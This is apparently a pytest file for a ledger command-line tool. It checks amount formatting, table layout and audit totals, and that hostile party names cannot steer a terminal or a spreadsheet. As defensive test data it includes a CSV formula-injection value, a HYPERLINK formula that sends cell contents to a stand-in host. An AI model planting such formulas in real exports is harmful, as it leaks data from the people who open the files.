"""What is shown: on a terminal and elsewhere, and that text from the log can't steer a terminal."""

import csv
import fcntl
import io
import os
import pty
import re
import struct
import subprocess
import termios
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from rich.cells import cell_len

from support.actors import uscc_of
from support.command_line import Desk, done, finish, run, start
from tallystick import keyfiles
from tallystick.forms.amounts import yuan
from tallystick.printing.text import gpu_hours, one_line

HOSTILE = "[bold]free[/bold] \u202e100 \u2028 :smile: \ufeff"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """A desk with a small ledger, one of whose parties has a hostile name."""
    desk = Desk(tmp_path_factory.mktemp("desk"))
    desk.found()
    desk.open_programme()
    desk.do(
        "party.admit",
        "shanghai-treasury",
        admitted="odd-name",
        role="holder",
        name=HOSTILE,
        uscc=uscc_of("odd-name"),
        keys=[desk.vkey("odd-name/desk")],
    )
    return desk


def read_all(master: int) -> str:
    """Return what was written to a terminal whose other end is closed."""
    written = b""
    try:
        while block := os.read(master, 65_536):
            written += block
    except OSError:  # Linux says so when nobody has the other end open
        pass
    os.close(master)
    return written.decode()


@pytest.mark.parametrize(
    ("fen", "shown"), [(0, "0.00"), (5, "0.05"), (-5, "-0.05"), (123_456_789, "1,234,567.89"), (-100, "-1.00")]
)
def test_amounts_are_shown_to_the_fen(fen: int, shown: str) -> None:
    """Without a float on the way."""
    assert yuan(fen) == shown


def test_gpu_time_is_shown_in_hours_cut_off_after_three_decimals() -> None:
    """One GPU for an hour is 3,600,000 GPU-milliseconds."""
    assert [gpu_hours(time) for time in (3_600_000, 3_599_999, 12_345_678_000)] == [
        "1.000",
        "0.999",
        "3,429.355",
    ]


def test_a_line_is_one_line() -> None:
    """Whatever is in it."""
    said = one_line("a\nb\x1b[31mc\u202ed\x00")
    assert said == "a b\\u001b[31mc\\u202ed\\u0000"
    assert one_line("上海 – Gui’an") == "上海 – Gui’an"


def test_names_from_the_log_can_not_steer_a_terminal(made: Desk) -> None:
    """Markup is text, and what isn't printed is spelled out."""
    for shown in (done("show", made.ledger, "holder", "odd-name"), done("balances", made.ledger, "--by", "holder")):
        assert "[bold]free[/bold]" in shown
        assert ":smile:" in shown
        assert "\\u202e" in shown
        assert not {"\u202e", "\u2028", "\ufeff", "\x1b"} & set(shown)


@pytest.mark.parametrize("by", ["programme", "holder", "provider", "voucher"])
def test_a_csv_of_nothing_has_a_byte_order_mark_and_its_heading(by: str, tmp_path: Path) -> None:
    """The heading that it has when there are rows."""
    desk = Desk(tmp_path)
    desk.found()
    empty = run("balances", desk.ledger, "--by", by, "--as-of", "0", "--csv").out
    assert empty.startswith(f"\ufeff{by},")
    assert empty.count("\n") == 1
    assert done("balances", desk.ledger, "--by", by, "--csv").startswith(empty)


def test_names_from_the_log_can_not_steer_a_spreadsheet(tmp_path: Path) -> None:
    """What begins as a formula is guarded, and what isn't printed is spelled out; numbers stay as they are."""
    desk = Desk(tmp_path)
    desk.found()
    names = {"formula": '=HYPERLINK("http://x.example/?a="&A2,"see")', "plus": "+1", "minus": "-1", "at": "@x"}
    names |= {"bidi": "a\u202eb", "wide": "＝1", "plain": "贵安智算中心"}
    for party, name in names.items():
        keys = [desk.vkey(f"{party}/desk")]
        fields: dict[str, Any] = {"admitted": party, "role": "holder", "name": name, "uscc": uscc_of(party)}
        desk.do("party.admit", "shanghai-treasury", keys=keys, **fields)
    written = done("balances", desk.ledger, "--by", "holder", "--csv").removeprefix("\ufeff")
    rows = {row["holder"]: row for row in csv.DictReader(io.StringIO(written, newline=""))}
    guarded = {party: f"'{name}" for party, name in names.items() if party not in ("bidi", "plain")}
    assert {party: rows[party]["name"] for party in names} == names | guarded | {"bidi": "a\\u202eb"}
    assert all(row["available_fen"] == "0" for row in rows.values())


def test_a_voucher_past_its_validity_is_over(tmp_path: Path) -> None:
    """By the log's time of the last entry, now and as of then; what it has can't be reserved any more."""
    desk = Desk(tmp_path)
    desk.found()
    desk.open_programme()
    later: dict[str, Any] = {"programme": "shanghai-treasury/compute-2026", "holder": "acme-ai", "face_fen": 5_000}
    until = "2026-12-31T00:00:00.000000Z"
    desk.do("voucher.issue", "shanghai-treasury", voucher="shanghai-treasury/v-2", valid_from=until, **later)
    shown = done("show", desk.ledger, "voucher", "shanghai-treasury/v-2")
    assert "not_yet_valid" in shown
    before = desk.size - 1
    desk.at = "2027-01-05T08:00:00Z"
    desk.do("party.suspend", "shanghai-treasury", subject="acme-ai", reason="r")

    def statuses(*at: object) -> list[str]:
        rows = run("balances", desk.ledger, "--by", "voucher", "--json", *at).json["balances"]
        return [row["status"] for row in rows]

    assert statuses() == ["over", "active"]
    assert statuses("--as-of", before) == ["active", "not_yet_valid"]
    assert statuses("--as-of", "2027-01-05T07:59:59Z") == ["active", "not_yet_valid"]
    for by in ("programme", "holder"):
        (row,) = run("balances", desk.ledger, "--by", by, "--json").json["balances"]
        assert (row["available_fen"], row["over_fen"]) == (149_005_000, 149_000_000)
        (row,) = run("balances", desk.ledger, "--by", by, "--json", "--as-of", before).json["balances"]
        assert (row["available_fen"], row["over_fen"]) == (149_005_000, 0)
    shown = done("show", desk.ledger, "programme", "shanghai-treasury/compute-2026")
    assert re.search(r"of it over +1,490,000\.00\n", shown)


def on_a_terminal(columns: int, *arguments: object) -> str:
    """Return what a command shows on a terminal that is so wide."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns, 0, 0))
    process = start(*arguments, stdout=slave, env_more={"TERM": "xterm"})
    os.close(slave)
    shown = read_all(master)
    assert (process.communicate(timeout=60)[1], process.returncode) == ("", 0)
    return shown.replace("\r\n", "\n")


AMOUNT = re.compile(r"-?\d[\d,]*\.\d\d\d?")


@pytest.mark.parametrize("columns", [60, 80, 120, 207])
def test_tables_fit_a_terminal_and_no_number_breaks(columns: int, made: Desk) -> None:
    """Whatever is asked: the same figures as in a file, where lines are as long as need be."""
    commands = [
        *[("balances", made.ledger, "--by", by) for by in ("programme", "holder", "provider", "voucher")],
        ("show", made.ledger, "voucher", "shanghai-treasury/v-1"),
        ("show", made.ledger, "programme", "shanghai-treasury/compute-2026"),
        ("audit", made.ledger, "--trust", made.policy),
    ]
    for command in commands[:1] if columns == 60 else commands[-1:]:  # real terminals take a process each
        shown = on_a_terminal(columns, *command)
        assert max(map(cell_len, shown.splitlines())) <= columns
        assert sorted(AMOUNT.findall(shown)) == sorted(AMOUNT.findall(done(*command)))
    for command in commands:
        with mock.patch.dict(os.environ, COLUMNS=str(columns)):
            shown = done(*command)
            wide = done(*command, "--wide")
        assert max(map(cell_len, shown.splitlines())) <= columns
        assert sorted(AMOUNT.findall(shown)) == sorted(AMOUNT.findall(done(*command)))
        assert body(wide) == body(done(*command))


def body(shown: str) -> list[str]:
    """A page's lines but the titles, which are folded where the page is narrow."""
    return [line for line in shown.splitlines() if "  " in line]


def test_the_audit_s_page_adds_up(tmp_path: Path) -> None:
    """What was issued is somewhere, a voucher that was revoked too; one word has one meaning."""
    desk = Desk(tmp_path)
    desk.found()
    desk.open_programme()
    desk.do("voucher.revoke", "shanghai-treasury", voucher="shanghai-treasury/v-1", reason="r")
    shown = done("audit", desk.ledger, "--trust", desk.policy)
    rows = {line.split()[0]: line.split()[-1] for line in shown.splitlines() if AMOUNT.search(line)}
    amounts = {name: int(re.sub(r"\D", "", rows[name])) for name in rows if AMOUNT.fullmatch(rows[name])}
    assert amounts["revoked"] == 149_000_000
    parts = ("available", "reserved", "burned", "expired", "revoked")
    assert sum(amounts[part] for part in parts) == amounts["together"] == amounts["issued"] == 150_000_000
    heading = next(line for line in shown.splitlines() if line.startswith("programme"))
    assert heading.split() == [
        *("programme", "envelope", "unissued", "available", "reserved"),
        *("unclaimed", "withheld", "claimed", "paid", "receivable", "adds", "up"),
    ]


@pytest.mark.parametrize("term", ["dumb", "unknown"])
def test_a_terminal_that_can_not_draw_over_gets_no_bar(term: str, made: Desk) -> None:
    """Nor half of one."""
    master, slave = pty.openpty()
    process = start("audit", made.ledger, "--trust", made.policy, stderr=slave, env_more={"TERM": term})
    os.close(slave)
    process.communicate(timeout=60)
    assert (process.returncode, read_all(master)) == (0, "")


def test_json_keeps_them_as_they_are(made: Desk) -> None:
    """Escaped, so that no terminal is steered by it either."""
    ran = run("show", made.ledger, "holder", "odd-name", "--json")
    assert ran.json["holder"]["balance"]["name"] == HOSTILE
    assert ran.out.isascii()


def test_on_a_terminal_long_work_shows_how_far_it_is(made: Desk) -> None:
    """On standard error alone: standard output is the report and nothing else."""
    master, slave = pty.openpty()
    ran = start("audit", made.ledger, "--trust", made.policy, "--json", stderr=slave, env_more={"TERM": "xterm"})
    os.close(slave)
    out, _ = ran.communicate(timeout=60)
    assert "Auditing" in read_all(master)
    assert out.startswith("{\n")
    assert (ran.returncode, "Auditing" in out) == (0, False)


def test_elsewhere_it_is_silent(made: Desk) -> None:
    """A log file isn't filled with bars."""
    ran = finish(start("audit", made.ledger, "--trust", made.policy))
    assert (ran.status, ran.err) == (0, "")
    assert "\x1b" not in ran.out


def answer_prompts(process: subprocess.Popen[str], master: int, prompts: list[str], answers: list[str]) -> None:
    """Type each answer once its prompt is there: what is typed before is thrown away."""
    assert process.stderr is not None
    for prompt, answer in zip(prompts, answers, strict=True):
        shown = ""
        while not shown.endswith(prompt):
            character = process.stderr.read(1)
            assert character, shown
            shown += character
        os.write(master, f"{answer}\n".encode())


@pytest.mark.parametrize(("again", "status"), [("correct horse", 0), ("wrong horse", 2)])
def test_a_passphrase_is_asked_for_twice_and_not_shown(again: str, status: int, tmp_path: Path) -> None:
    """On a terminal; and once for signing with it."""
    key = tmp_path / "key.pem"
    master, slave = pty.openpty()
    process = start("key", "new", "acme-ai/desk", "-o", key, stdin=slave)
    answer_prompts(process, master, [f"Passphrase for {key}: ", "The same again: "], ["correct horse", again])
    ran = finish(process)
    os.close(slave)
    assert "horse" not in read_all(master) + ran.out + ran.err
    assert (ran.status, key.exists()) == (status, status == 0)
    if status == 0:
        assert keyfiles.load(key, b"correct horse").verifier.to_text() == ran.out.strip()


def test_a_locked_key_is_unlocked_on_a_terminal(made: Desk, tmp_path: Path) -> None:
    """Where no passphrase file is given."""
    key, note = tmp_path / "key.pem", tmp_path / "note"
    keyfiles.create(key, "acme-ai/desk", b"correct horse")
    master, slave = pty.openpty()
    process = start("sign", made.folder / "002.json", "--key", key, "-o", note, stdin=slave)
    answer_prompts(process, master, [f"Passphrase for {key}: "], ["correct horse"])
    ran = finish(process)
    os.close(slave)
    os.close(master)
    assert (ran.status, ran.out) == (0, "")
    assert b"acme-ai/desk" in note.read_bytes()


def test_a_ledger_that_can_only_be_read_answers_too(made: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """From memory: no file is written beside it."""
    expected = done("balances", made.ledger)
    views = made.ledger / "views.db"
    views.unlink()
    monkeypatch.setattr(os, "access", lambda *_: False)
    assert done("balances", made.ledger) == expected
    assert not views.exists()
